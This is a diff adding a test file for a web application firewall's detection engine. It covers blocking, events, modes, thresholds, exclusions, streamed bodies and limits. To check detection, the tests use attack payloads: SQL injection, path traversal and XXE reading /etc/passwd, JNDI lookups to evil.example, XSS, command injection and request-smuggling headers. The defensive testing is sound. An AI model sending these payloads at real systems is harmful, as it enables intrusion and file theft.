@@ -1,0 +1,332 @@
+// The detection engine through the compiled filter in the host: where it looks (locations),
+// what an http.attack event carries, modes and waf.action, paranoia, threshold, exclusions,
+// streaming body inspection (what is held, what is released), and every limit's counter.
+import { strict as assert } from 'node:assert';
+import { describe, it } from 'node:test';
+import type { WafConfig } from '../../control-plane/src/compile/filter-config.js';
+import type { HeaderList } from '../../host-agent/src/wasm-host/api.js';
+import { FRONTEND, call, config, get, request, startFilter, streamInfo, type Filter, type Json } from './helpers.js';
+
+const ALL = [{ id: 'shop/orders/any', name: 'any', from: [], http: [], grpc: [] }];
+const WAF: WafConfig = { action: 'block', paranoia: 1, threshold: 5, exclusions: [] };
+
+function detecting(waf: Partial<WafConfig> = {}, mode: 'discover' | 'monitor' | 'protect' = 'protect', maxBodyBytes = 65536) {
+  return startFilter(config({ mode, ingress: ALL, waf: { ...WAF, ...waf }, limits: { maxBodyBytes, maxEventFieldBytes: 1024 } }));
+}
+
+function attacks(f: Filter): Json[] {
+  return f.loggedEvents().filter((e) => e.kind === 'http.attack');
+}
+
+const enc = (s: string) => encodeURIComponent(s);
+const json = (body: unknown): [HeaderList, Uint8Array[]] =>
+  [call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), [Buffer.from(JSON.stringify(body))]];
+
+describe('detection: verdicts and events', () => {
+  it('blocks an attack in a query parameter with the 403 body and an http.attack event', async () => {
+    const f = await detecting();
+    try {
+      const o = request(f, get(`/api/items?id=${enc("1' OR '1'='1")}`));
+      assert.equal(o.status, 403);
+      assert.equal(o.forwarded, false);
+      const body = JSON.parse(o.responseBody) as { error: string; event: string };
+      assert.equal(body.error, 'blocked');
+      const [e] = attacks(f);
+      assert.equal(e.id, body.event);
+      assert.equal(e.kind, 'http.attack');
+      assert.equal(e.action, 'block');
+      assert.equal(e.severity, 'critical');
+      assert.deepEqual(e.attack, { class: 'sqli', technique: 'T1190', tactic: 'initial-access', confidence: (e.attack as Json).confidence });
+      assert.ok(((e.attack as Json).confidence as number) >= 50);
+      const ev = e.evidence as Json;
+      assert.equal(ev.location, 'query.id');
+      assert.match(ev.match as string, /OR/);
+      assert.equal(ev.threshold, 5);
+      assert.deepEqual(ev.classes, ['sqli']);
+      assert.deepEqual(e.rule, { id: `waf/sqli/${ev.rule as string}`, name: ev.rule });
+      assert.equal(f.metric('meshward.attacks'), 1);
+      assert.equal(f.metric('meshward.attacks_blocked'), 1);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('names where it matched: path, headers, cookies, form, JSON, multipart, XML', async () => {
+    const f = await detecting();
+    try {
+      const cases: Array<[string, HeaderList, Uint8Array[]]> = [
+        ['path', get('/static/..%2f..%2f..%2fetc%2fpasswd'), []],
+        ['header.user-agent', [...get('/'), ['user-agent', '${jndi:ldap://evil.example/a}']], []],
+        ['header.x-api-version', [...get('/'), ['x-api-version', '${${lower:j}ndi:ldap://e.example/x}']], []],
+        ['cookie.session', [...get('/'), ['cookie', `theme=dark; session=${enc('<script>alert(1)</script>')}`]], []],
+        ['body.form.comment', call('POST', '/c', 'orders.shop', [['content-type', 'application/x-www-form-urlencoded']]), [Buffer.from(`a=1&comment=${enc('; cat /etc/passwd')}`)]],
+        ['body.json.user.name', ...json({ user: { name: "x' UNION SELECT password FROM users--" } })],
+        ['body.multipart.bio', call('POST', '/u', 'orders.shop', [['content-type', 'multipart/form-data; boundary=XyZ']]),
+          [Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="bio"\r\n\r\n<img src=x onerror=alert(1)>\r\n--XyZ--\r\n')]],
+        ['body.multipart.file.filename', call('POST', '/u', 'orders.shop', [['content-type', 'multipart/form-data; boundary=XyZ']]),
+          [Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../../../etc/passwd"\r\n\r\nhello\r\n--XyZ--\r\n')]],
+        ['body.xml.note', call('POST', '/x', 'orders.shop', [['content-type', 'application/xml']]), [Buffer.from('<order><note>{{7*7}}</note></order>')]],
+        ['body.xml', call('POST', '/x', 'orders.shop', [['content-type', 'text/xml']]), [Buffer.from('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')]],
+      ];
+      for (const [location, headers, body] of cases) {
+        const before = attacks(f).length;
+        const o = request(f, headers, FRONTEND, body);
+        assert.equal(o.status, 403, location);
+        const e = attacks(f)[before];
+        assert.equal((e.evidence as Json).location, location);
+      }
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('lets benign traffic of the kinds naive WAFs block through, without events', async () => {
+    const f = await detecting();
+    try {
+      const values = [
+        "O'Brien", "Please select the best option from the list", "It's 5 o'clock -- don't be late",
+        '<p>Hello <b>world</b>, see <a href="https://example.com/x">docs</a></p>', 'Run `npm install` then `npm test`.',
+        'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl', '東京都渋谷区 😀', 'Tom & Jerry; cats & dogs', '1/2 inch | 3/4 inch',
+      ];
+      for (const v of values) {
+        assert.equal(request(f, get(`/search?q=${enc(v)}`)).status, 200, v);
+        const [h, b] = json({ comment: v });
+        assert.equal(request(f, h, FRONTEND, b).status, 200, v);
+      }
+      const gql = JSON.stringify({ query: 'query { product(id: "42") { name reviews(first: 5) { text } } }', variables: {} });
+      assert.equal(request(f, call('POST', '/graphql', 'orders.shop', [['content-type', 'application/json']]), FRONTEND, [Buffer.from(gql)]).status, 200);
+      assert.equal(attacks(f).length, 0);
+    } finally {
+      await f.close();
+    }
+  });
+});
+
+describe('detection: modes, actions, paranoia, threshold, exclusions', () => {
+  const sqli = `/api/items?id=${enc("1' OR '1'='1")}`;
+
+  it('monitor and discover report the attack (alert) and let it through', async () => {
+    for (const mode of ['monitor', 'discover'] as const) {
+      const f = await detecting({}, mode);
+      try {
+        const o = request(f, get(sqli));
+        assert.equal(o.status, 200);
+        const [e] = attacks(f);
+        assert.equal(e.action, 'alert');
+        assert.equal(e.mode, mode);
+      } finally {
+        await f.close();
+      }
+    }
+  });
+
+  it('waf.action alert reports without blocking; off does not look', async () => {
+    let f = await detecting({ action: 'alert' });
+    try {
+      assert.equal(request(f, get(sqli)).status, 200);
+      assert.equal(attacks(f)[0].action, 'alert');
+    } finally {
+      await f.close();
+    }
+    f = await detecting({ action: 'off' });
+    try {
+      assert.equal(request(f, get(sqli)).status, 200);
+      assert.equal(attacks(f).length, 0);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('a full SQL statement with no break counts at paranoia 2, not at 1', async () => {
+    const path = `/q?sql=${enc('SELECT * FROM users')}`;
+    let f = await detecting({ paranoia: 1 });
+    try {
+      assert.equal(request(f, get(path)).status, 200);
+    } finally {
+      await f.close();
+    }
+    f = await detecting({ paranoia: 2 });
+    try {
+      assert.equal(request(f, get(path)).status, 403);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('the threshold decides: a higher one lets a single finding pass', async () => {
+    const f = await detecting({ threshold: 20 });
+    try {
+      assert.equal(request(f, get(sqli)).status, 200);
+      assert.equal(attacks(f).length, 0);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('exclusions drop findings by path, location and class', async () => {
+    const f = await detecting({ exclusions: [{ paths: ['/cms/**'], params: ['body.json.html', 'query.code*'], classes: ['xss'] }] });
+    try {
+      const xss = { html: '<script>alert(1)</script>' };
+      const post = (path: string, body: unknown) => request(f, call('POST', path, 'orders.shop', [['content-type', 'application/json']]), FRONTEND, [Buffer.from(JSON.stringify(body))]);
+      assert.equal(post('/cms/pages', xss).status, 200, 'excluded: path, location and class match');
+      assert.equal(post('/api/pages', xss).status, 403, 'another path');
+      assert.equal(post('/cms/pages', { text: xss.html }).status, 403, 'another location');
+      assert.equal(post('/cms/pages', { html: "1' OR '1'='1" }).status, 403, 'another class');
+      assert.equal(request(f, get(`/cms/x?code_sample=${enc('<script>alert(1)</script>')}`)).status, 200, 'prefix location');
+      assert.ok(f.metric('meshward.findings_excluded') >= 2);
+    } finally {
+      await f.close();
+    }
+  });
+});
+
+describe('detection: request bodies stream', () => {
+  it('forwards clean chunks at once and holds only an unfinished JSON string', async () => {
+    const f = await detecting();
+    try {
+      const seen: number[] = [];
+      const s = f.plugin.createHttpStream(streamInfo(FRONTEND), {
+        requestHeaders() {}, requestData: (d) => seen.push(d.byteLength), requestTrailers() {},
+        responseHeaders() {}, responseData() {}, responseTrailers() {}, reset() {},
+      });
+      s.decodeHeaders(call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), false);
+      s.decodeData(Buffer.from('{"a":"one","b":"two",'), false);
+      assert.deepEqual(seen, [21], 'a chunk ending between values is released');
+      s.decodeData(Buffer.from('"c":"thr'), false);
+      assert.deepEqual(seen, [21], 'a chunk ending inside a string is held');
+      s.decodeData(Buffer.from('ee"}'), true);
+      assert.deepEqual(seen, [21, 12], 'released with the rest once judged');
+      s.complete();
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('blocks an attack split across chunks before its second half is forwarded', async () => {
+    const f = await detecting();
+    try {
+      const data: string[] = [];
+      let status: string | undefined;
+      const s = f.plugin.createHttpStream(streamInfo(FRONTEND), {
+        requestHeaders() {}, requestData: (d) => data.push(Buffer.from(d).toString()), requestTrailers() {},
+        responseHeaders: (h) => { status = h.find(([n]) => n === ':status')?.[1]; }, responseData() {}, responseTrailers() {}, reset() {},
+      });
+      s.decodeHeaders(call('POST', '/api/orders', 'orders.shop', [['content-type', 'application/json']]), false);
+      s.decodeData(Buffer.from('{"ok":1,"q":"1\' UNION SEL'), false);
+      s.decodeData(Buffer.from('ECT password FROM users--"}'), true);
+      s.complete();
+      assert.equal(status, '403');
+      assert.ok(!data.join('').includes('UNION'), 'no part of the attack went upstream');
+      assert.equal((attacks(f)[0].evidence as Json).location, 'body.json.q');
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('inspects a form body split mid-value', async () => {
+    const f = await detecting();
+    try {
+      const h = call('POST', '/c', 'orders.shop', [['content-type', 'application/x-www-form-urlencoded']]);
+      const o = request(f, h, FRONTEND, [Buffer.from('name=ann&bio=%3Cscr'), Buffer.from('ipt%3Ealert(1)%3C%2Fscript%3E&x=1')]);
+      assert.equal(o.status, 403);
+      assert.equal((attacks(f)[0].evidence as Json).location, 'body.form.bio');
+    } finally {
+      await f.close();
+    }
+  });
+});
+
+describe('detection: limits and their counters', () => {
+  it('limits.maxBodyBytes: bytes past the window pass uninspected (body_truncated)', async () => {
+    const f = await detecting({}, 'protect', 1024);
+    try {
+      const h = call('POST', '/t', 'orders.shop', [['content-type', 'text/plain']]);
+      const o = request(f, h, FRONTEND, [Buffer.from('a'.repeat(2000) + ' <script>alert(1)</script>')]);
+      assert.equal(o.status, 200);
+      assert.equal(f.metric('meshward.body_truncated'), 1);
+      // inside the window it is found
+      assert.equal(request(f, h, FRONTEND, [Buffer.from('<script>alert(1)</script>')]).status, 403);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('parameters per request: past 1024 they are not inspected (params_exceeded) and it is a finding', async () => {
+    const f = await detecting();
+    try {
+      const q = Array.from({ length: 1100 }, () => 'x=1').join('&');
+      const o = request(f, get(`/s?${q}`));
+      assert.equal(f.metric('meshward.params_exceeded'), 1);
+      assert.equal(o.status, 403);
+      assert.equal((attacks(f)[0].evidence as Json).rule, 'too-many-parameters');
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('inspected bytes per request: past 1 MiB (inspected_bytes_exceeded)', async () => {
+    const f = await detecting({}, 'protect', 4 << 20);
+    try {
+      const h = call('POST', '/t', 'orders.shop', [['content-type', 'text/plain']]);
+      const o = request(f, h, FRONTEND, [Buffer.from('word '.repeat((3 << 20) / 10)), Buffer.from('word '.repeat((3 << 20) / 10))]);
+      assert.equal(o.status, 200);
+      assert.equal(f.metric('meshward.inspected_bytes_exceeded'), 1);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('decode depth: a value still encoded after four passes is counted (decode_depth_exceeded)', async () => {
+    const f = await detecting();
+    try {
+      let v = '<script>alert(1)</script>';
+      for (let i = 0; i < 6; i++) v = encodeURIComponent(v);
+      request(f, get(`/s?q=${v}`));
+      assert.ok(f.metric('meshward.decode_depth_exceeded') >= 1);
+    } finally {
+      await f.close();
+    }
+  });
+
+  it('long values are inspected in overlapping windows (value_windowed)', async () => {
+    const f = await detecting({}, 'protect', 1 << 20);
+    try {
+      const h = call('POST', '/t', 'orders.shop', [['content-type', 'application/json']]);
+      const long = 'x'.repeat(40000) + "' UNION SELECT password FROM users--";
+      const o = request(f, h, FRONTEND, [Buffer.from(JSON.stringify({ a: 'y'.repeat(20000) + ' ok', b: long }))]);
+      assert.equal(o.status, 403);
+      assert.ok(f.metric('meshward.value_windowed') >= 1);
+    } finally {
+      await f.close();
+    }
+  });
+});
+
+describe('detection: protocol abuse (through the host, as Node would reject some itself)', () => {
+  const cases: Array<[string, HeaderList]> = [
+    ['content-length-with-transfer-encoding', [...call('POST', '/a'), ['content-length', '5'], ['transfer-encoding', 'chunked']]],
+    ['conflicting-content-length', [...call('POST', '/a'), ['content-length', '5'], ['content-length', '6']]],
+    ['obfuscated-transfer-encoding', [...call('POST', '/a'), ['transfer-encoding', 'chunked, identity']]],
+    ['invalid-content-length', [...call('POST', '/a'), ['content-length', '-1']]],
+    ['control-bytes', [...get('/a'), ['x-note', 'a\u0000b']]],
+    ['invalid-method', call('GE T', '/a')],
+    ['unknown-method', call('JEFF', '/a')],
+    ['overlong-uri', get('/a?q=' + 'x'.repeat(9000))],
+    ['too-many-headers', [...get('/a'), ...Array.from({ length: 120 }, (_, i) => [`x-h${i}`, 'v'] as [string, string])]],
+  ];
+  for (const [rule, headers] of cases) {
+    it(rule, async () => {
+      const f = await detecting();
+      try {
+        const o = request(f, headers, FRONTEND, [Buffer.from('hello')]);
+        assert.equal(o.status, 403);
+        const e = attacks(f)[0];
+        assert.equal((e.attack as Json).class, 'protocol');
+        assert.equal((e.evidence as Json).rule, rule);
+        assert.ok(f.metric('meshward.protocol_violations') >= 1);
+      } finally {
+        await f.close();
+      }
+    });
+  }
+});
